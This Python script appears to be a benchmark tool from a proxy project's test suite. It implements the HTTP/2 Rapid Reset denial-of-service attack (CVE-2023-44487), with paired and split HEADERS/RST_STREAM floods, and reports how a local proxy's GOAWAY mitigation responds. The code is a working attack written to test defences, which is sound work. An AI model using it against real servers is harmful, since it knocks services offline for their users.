#!/usr/bin/python3
"""An HTTP/2 Rapid Reset attacker (CVE-2023-44487) for bench/rapid_reset.sh.

  rapid_reset_attacker.py PORT --duration S [--mode pairs|split] [--batch 100] [--out FILE]

One connection at a time, h2c by prior knowledge: the preface and SETTINGS, then as fast as the
socket takes them, GET requests on new streams (/reset/cCCCCCC/sSSSSSSSSSS: the connection's
number and the stream's) each cancelled at once
(RST_STREAM CANCEL):
  pairs  HEADERS then RST_STREAM back to back, --batch pairs per write (the attack as published)
  split  --batch HEADERS in one write, then their --batch RST_STREAMs in the next: the requests
         are complete when the proxy reads them, so they go upstream before the resets arrive
When the proxy ends the connection (a GOAWAY, then the close), the attacker connects again at
once, until --duration is over: one connection at a time for the whole period.

Frames are built with tests/integration/h2_attack.py's helpers. At the end one JSON object
goes to --out (or stdout): connections, streams written to the socket (HEADERS + RST pairs the
kernel took), streams the proxy took (by the last-stream-id of its GOAWAYs), the GOAWAY codes
each connection received ("2+11": INTERNAL_ERROR then ENHANCE_YOUR_CALM) and how often, the
seconds it ran.
"""

import argparse
import json
import os
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True  # no __pycache__ left in tests/integration
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests",
                                "integration"))
from h2_attack import (CANCEL, GOAWAY, PREFACE, RST_STREAM, SETTINGS, frame,  # noqa: E402
                       headers_frame, request_fields)


# The path names the connection (patched into the prepared writes for each one, see
# connection_writes) and the stream, so that the backend can count what it holds per connection.
CONN_MARK = b"/reset/c000000/"


def stream_frames(authority, stream):
    """HEADERS (END_STREAM) and RST_STREAM CANCEL of one stream, each a bytes object. The path
    has a fixed width so that every stream's frames have the same size."""
    headers = headers_frame(stream, request_fields(
        authority, CONN_MARK.decode() + "s%010d" % stream))
    return headers, frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def build_writes(authority, mode, batch, streams):
    """The writes of one connection: streams 1, 3, 5, ... in groups of `batch`."""
    writes = []
    ids = [2 * i + 1 for i in range(streams)]
    for at in range(0, streams, batch):
        group = [stream_frames(authority, s) for s in ids[at:at + batch]]
        if mode == "pairs":
            writes.append((b"".join(h + r for h, r in group), len(group)))
        else:
            writes.append((b"".join(h for h, _ in group), 0))
            writes.append((b"".join(r for _, r in group), len(group)))
    return writes


def connection_writes(writes, number):
    """The prepared writes with this connection's number in every path (a literal, not Huffman
    coded, so the bytes are there as written)."""
    mark = b"/reset/c%06d/" % (number % 1000000)
    return [(data.replace(CONN_MARK, mark), n) for data, n in writes]


def goaways(received):
    """The GOAWAY frames in the bytes received: [(last_stream_id, error_code)]."""
    out = []
    at = 0
    while len(received) - at >= 9:
        length = int.from_bytes(received[at:at + 3], "big")
        if len(received) - at < 9 + length:
            break
        if received[at + 3] == GOAWAY and length >= 8:
            out.append((int.from_bytes(received[at + 9:at + 13], "big") & 0x7FFFFFFF,
                        int.from_bytes(received[at + 13:at + 17], "big")))
        at += 9 + length
    return out


def one_connection(args, writes, deadline):
    """Returns (streams written, [(last_stream_id, code)] of the GOAWAYs received)."""
    sock = socket.create_connection(("127.0.0.1", args.port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.setblocking(False)
    received = bytearray()
    written = 0
    pending = [(PREFACE + frame(SETTINGS, 0, 0), 0)] + writes
    closed = False
    try:
        for data, streams in pending:
            view = memoryview(data)
            while view and not closed and time.monotonic() < deadline:
                try:
                    n = sock.send(view)
                    view = view[n:]
                except BlockingIOError:
                    # the proxy stopped reading (or reads slower than we write): see what it said
                    time.sleep(0.0005)
                except OSError:
                    closed = True
                    break
                try:
                    chunk = sock.recv(65536)
                    if not chunk:
                        closed = True
                    received += chunk
                except BlockingIOError:
                    pass
                except OSError:
                    closed = True
            if closed or view:
                break
            written += streams
        # every write done, or the proxy stopped reading: wait for its GOAWAY and close (bounded)
        sock.setblocking(True)
        sock.settimeout(max(0.05, min(2.0, deadline - time.monotonic())))
        while not closed and time.monotonic() < deadline:
            try:
                chunk = sock.recv(65536)
            except (socket.timeout, OSError):
                break
            if not chunk:
                break
            received += chunk
    finally:
        try:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass
        sock.close()
    return written, goaways(bytes(received))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("port", type=int)
    parser.add_argument("--duration", type=float, required=True, help="seconds")
    parser.add_argument("--mode", choices=("pairs", "split"), default="pairs")
    parser.add_argument("--batch", type=int, default=100, help="streams per write")
    parser.add_argument("--streams", type=int, default=1200,
                        help="streams written per connection at most (bgproxy ends one after "
                        "about 1000 resets; writing more only fills the socket's buffers)")
    parser.add_argument("--authority", default=None, help="default 127.0.0.1:PORT")
    parser.add_argument("--out", default=None, help="the JSON report (default stdout)")
    args = parser.parse_args()
    authority = args.authority or "127.0.0.1:%d" % args.port
    writes = build_writes(authority, args.mode, args.batch, args.streams)

    start = time.monotonic()
    deadline = start + args.duration
    connections = streams = taken = 0
    codes = {}
    errors = 0
    while time.monotonic() < deadline:
        try:
            n, frames = one_connection(args, connection_writes(writes, connections + 1),
                                       deadline)
        except OSError:
            errors += 1
            time.sleep(0.01)
            continue
        connections += 1
        streams += n
        # the streams the proxy took: up to the highest last-stream-id its GOAWAYs named (without
        # a GOAWAY, what was written is the bound)
        taken += (max(last for last, _ in frames) + 1) // 2 if frames else n
        key = "+".join(str(code) for _, code in frames) or "none"
        codes[key] = codes.get(key, 0) + 1
    elapsed = time.monotonic() - start
    report = {"mode": args.mode, "batch": args.batch, "seconds": round(elapsed, 3),
              "connections": connections, "streams_written": streams,
              "streams_taken": taken,
              "streams_per_second": round(streams / elapsed, 1) if elapsed else 0,
              "goaway_codes": codes, "connect_errors": errors}
    text = json.dumps(report)
    if args.out:
        with open(args.out, "w") as f:
            f.write(text + "\n")
    else:
        print(text)


if __name__ == "__main__":
    main()
